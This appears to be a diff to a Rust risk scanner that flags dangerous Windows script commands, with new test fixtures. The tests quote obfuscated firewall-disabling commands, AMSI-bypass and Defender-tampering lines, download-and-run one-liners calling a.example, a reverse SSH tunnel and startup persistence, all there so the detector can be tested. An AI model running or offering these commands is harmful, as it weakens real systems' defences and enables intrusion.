@@ -8,9 +8,9 @@ use regex::Regex;
 
 use super::Peeled;
 use super::hosts::hosts;
+use super::layer::Layer;
 use super::network::{fetched, is_run};
 use super::pattern::{Patterns, Wanted};
-use super::plain::{plain, with_plain_numbers};
 use crate::risk::class::{Severity, class, rows};
 use crate::risk::report::RiskFinding;
 
@@ -59,34 +59,28 @@ pub(in crate::risk) struct Reading {
 pub(in crate::risk) fn read(peeled: &Peeled, subject: &str) -> Reading {
     let mut reading = Reading::default();
     let mut worst: BTreeMap<&str, RiskFinding> = BTreeMap::new();
-    let mut layers: Vec<(&str, String)> = Vec::new();
-    for layer in &peeled.layers {
-        let text = plain(&layer.text);
-        reading.hosts.extend(hosts(&text));
-        layers.push((&layer.layer, with_plain_numbers(&text)));
-    }
-    for (layer, text) in &layers {
+    let layers: Vec<Layer<'_>> = peeled.layers.iter().map(Layer::of).collect();
+    reading.hosts.extend(layers.iter().flat_map(|layer| hosts(&layer.written)));
+    for layer in &layers {
+        let text = &layer.text;
         let mut excused = None;
         PATTERNS.matches(text, |index, range| {
             let Some(row) = ROWS.get(index) else { return Wanted::NoMore };
             if row.unless.as_ref().is_some_and(|unless| is_excused(text, index, &range, unless, &mut excused)) {
                 return Wanted::More;
             }
-            let own = RiskFinding::new(row.class, subject).shows_layer(layer, line_of(text, range.start));
-            let own = RiskFinding {
-                severity: row.severity.unwrap_or(own.severity),
-                attack: row.attack.unwrap_or(own.attack),
-                ..own
-            };
-            match worst.get(row.class) {
-                Some(known) if known.severity >= own.severity => {}
-                _ => drop(worst.insert(row.class, own)),
+            let own = RiskFinding::new(row.class, subject);
+            let severity = row.severity.unwrap_or(own.severity);
+            if worst.get(row.class).is_none_or(|known| known.severity < severity) {
+                let attack = row.attack.unwrap_or(own.attack);
+                let own = RiskFinding { severity, attack, ..own }.shows_layer(layer.name, layer.line(range.start));
+                worst.insert(row.class, own);
             }
             Wanted::NoMore
         });
     }
     network(&layers, subject, &mut worst);
-    if layers.iter().any(|(_, text)| waits_long(text)) {
+    if layers.iter().any(|layer| waits_long(&layer.text)) {
         worst.entry("delays").or_insert_with(|| RiskFinding::new("delays", subject).shows("it waits for minutes"));
     }
     if peeled.holds_program {
@@ -96,7 +90,8 @@ pub(in crate::risk) fn read(peeled: &Peeled, subject: &str) -> Reading {
         worst.insert("encoded-command", RiskFinding::new("encoded-command", subject).shows(switch));
     }
     let has_colon = |line: &&str| line.contains(':') && line.contains('.');
-    let stream = layers.iter().flat_map(|(_, text)| text.lines().filter(has_colon)).find_map(|line| STREAM.find(line));
+    let stream =
+        layers.iter().flat_map(|layer| layer.written.lines().filter(has_colon)).find_map(|line| STREAM.find(line));
     let stream = stream.map(|found| found.as_str().to_owned());
     if !peeled.obfuscated.is_empty() || stream.is_some() {
         let mut found = RiskFinding::new("obfuscated-command", subject);
@@ -152,23 +147,22 @@ fn statement(text: &str, range: &Range<usize>) -> Range<usize> {
     start..end
 }
 
-fn line_of(text: &str, at: usize) -> &str {
-    let start = text.get(..at).and_then(|before| before.rfind('\n')).map_or(0, |end| end + 1);
-    text.get(start..).and_then(|rest| rest.lines().next()).unwrap_or_default().trim()
-}
-
 /// A stream of a file: `picture.png:run.ps1`.
-static STREAM: LazyLock<Regex> = LazyLock::new(|| regex(r"\b[\w-]+\.[a-z]{2,4}:[\w-]+\.[a-z][a-z0-9]{1,3}\b"));
+static STREAM: LazyLock<Regex> = LazyLock::new(|| {
+    regex(
+        r"(?i)\b[\w-]+\.[a-z]{2,4}:[\w-]+\.[a-z][a-z0-9]{1,3}\b|\\[\w.-]+:[\w-]+\.(?:exe|dll|ps1|vbs|js|cmd|bat|hta|com)\b",
+    )
+});
 
 /// What is fetched, and whether it is run.
-fn network(layers: &[(&str, String)], subject: &str, worst: &mut BTreeMap<&str, RiskFinding>) {
-    let first = layers.iter().find_map(|(layer, text)| Some((layer, text, fetched(text)?)));
-    let Some((layer, text, place)) = first else { return };
-    let texts: Vec<&str> = layers.iter().map(|(_, text)| text.as_str()).collect();
+fn network(layers: &[Layer<'_>], subject: &str, worst: &mut BTreeMap<&str, RiskFinding>) {
+    let first = layers.iter().find_map(|layer| Some((layer, fetched(&layer.text)?)));
+    let Some((layer, place)) = first else { return };
+    let texts: Vec<&str> = layers.iter().map(|layer| layer.text.as_str()).collect();
     let is_run = is_run(&texts);
     let found = |class| {
-        let found = RiskFinding::new(class, subject).shows_layer(layer, line_of(text, place.start));
-        layers.iter().fold(found, |found, (layer, text)| found.shows_layer(layer, text))
+        let found = RiskFinding::new(class, subject).shows_layer(layer.name, layer.line(place.start));
+        layers.iter().fold(found, |found, layer| found.shows_layer(layer.name, &layer.written))
     };
     if worst.contains_key("sends-data") && !is_run {
         return;
@@ -277,6 +271,26 @@ mod tests {
             "ssh -R 3389:localhost:3389 a@a.example",
             "cmd /c pushd \\\\a.example\\d && setup",
             "net use x: \\\\a.example\\d && x:setup",
+            "set \"x=MpPreference\"& powershell -c Set-%x% -DisableIOAVProtection $true",
+            "set x=state off\r\ncall :f\r\n:f\r\nnetsh advfirewall set allprofiles %x%",
+            "@net^\r\nsh adv^\r\nfirewall set allprofiles state off",
+            "$t = [Ref].Assembly.GetTypes() | ? { $_.Name -like '*iUtils' }",
+            "type a.txt > %TEMP%\\h:s.exe",
+            "#@~^IQAAAA==Z./rY+ W(%+^YcJ?1DbwORUtnVJ*R]!x~EUnYd4EPQ0kAAA==^#~@",
+            "copy /b a1.txt+a2.txt a.cmd & a.cmd",
+            "iex ([Text.Encoding]::ASCII.GetString([byte[]](110,101,116,115,104,32,97,100,118,102,105,114,101,119,97,108,108,32,115,101,116,32,97,108,108,112,114,111,102,105,108,101,115,32,115,116,97,116,101,32,111,102,102)))",
+            "$a='net';$b='sh';$c='advfirewall';& \"$a$b\" $c set allprofiles state off",
+            "$p=@('advfirewall','set','allprofiles','state','off'); & netsh @p",
+            "& netsh `\r\n  advfirewall `\r\n  set allprofiles state off",
+            "(New-Object -ComObject HNetCfg.FwPolicy2) | % { $_.FirewallEnabled(1) = $false }",
+            "curl https://a.example/a.zip -o a.zip && tar -xf a.zip && setup.exe",
+            "winget install --manifest .\\m.yaml",
+            "takeown /f C:\\Windows\\System32\\drivers\\WdFilter.sys",
+            "setx /M PATH \"C:\\Users\\Public;%PATH%\"",
+            "powershell -v 2 -c ver",
+            "reg add HKLM\\x\\PointAndPrint /v RestrictDriverInstallationToAdministrators /t REG_DWORD /d 0 /f",
+            "$s = $w.CreateShortcut('C:\\x\\Start Menu\\Programs\\StartUp\\u.lnk'); $s.TargetPath = 'C:\\Users\\Public\\u.exe'",
+            "For Each c In Array(110,101,116,115,104,32,97,100,118,102,105,114,101,119,97,108,108,32,115,101,116,32,97,108,108,112,114,111,102,105,108,101,115,32,115,116,97,116,101,32,111,102,102)\r\ns = s & Chr(c)\r\nNext",
         ] {
             assert!(classes(line).iter().any(|class| class.ends_with("high")), "{line}: {:?}", classes(line));
         }
@@ -319,9 +333,37 @@ mod tests {
             "reg delete HKLM\\SYSTEM\\CurrentControlSet\\Services\\ContosoAgent /f",
             "[InternetShortcut]\nURL=https://intranet.contoso.com/help.html",
             "secedit /configure /db secedit.sdb /cfg baseline.inf",
+            "set TARGET=C:\\Contoso\r\nrobocopy files %TARGET% /e\r\nicacls %TARGET% /grant Users:(OI)(CI)RX",
+            "msbuild-free.exe /log:install.exe",
+            "curl -o tools.zip https://a.example/tools.zip && tar -xf tools.zip -C C:\\Tools && reg.exe add HKLM\\x /v Kit /d 1 /f",
+            "powershell -Version 5.1 -File a.ps1",
+            "setx /M PATH \"%PATH%;C:\\Contoso\\bin\"",
+            "copy /b firmware1.bin+firmware2.bin firmware.bin",
+            "$apps = @('A.B', 'C.D'); foreach ($app in $apps) { Write-Host \"removing $app of $apps\" }",
+            "reg add HKLM\\x\\PointAndPrint /v RestrictDriverInstallationToAdministrators /t REG_DWORD /d 1 /f",
         ] {
             assert!(!classes(line).iter().any(|class| class.ends_with("high")), "{line}: {:?}", classes(line));
         }
+    }
+
+    #[test]
+    fn commands_are_quoted_as_written() {
+        let quoted = |line: &str, class: &str| {
+            let reading = read(&peel(line), "x");
+            let found = reading.findings.into_iter().find(|found| found.class.name == class).unwrap();
+            found.evidence.into_iter().map(|evidence| evidence.text).next().unwrap()
+        };
+        let line = "NetSh AdvFirewall Set AllProfiles State Off";
+        assert_eq!(quoted(&format!("@Echo Off\r\n\r\n  {line}\r\nExit"), "weakens-firewall"), line);
+        let line = "IEX (IWR https://A.example/Run.ps1)";
+        assert_eq!(quoted(line, "download-and-run"), line);
+    }
+
+    #[test]
+    fn an_update_server_is_known_by_its_value() {
+        let line =
+            "reg add HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\WindowsUpdate /v WUServer /d http://a.example /f";
+        assert!(classes(line).contains(&"changes-update-source medium".to_owned()), "{:?}", classes(line));
     }
 
     #[test]
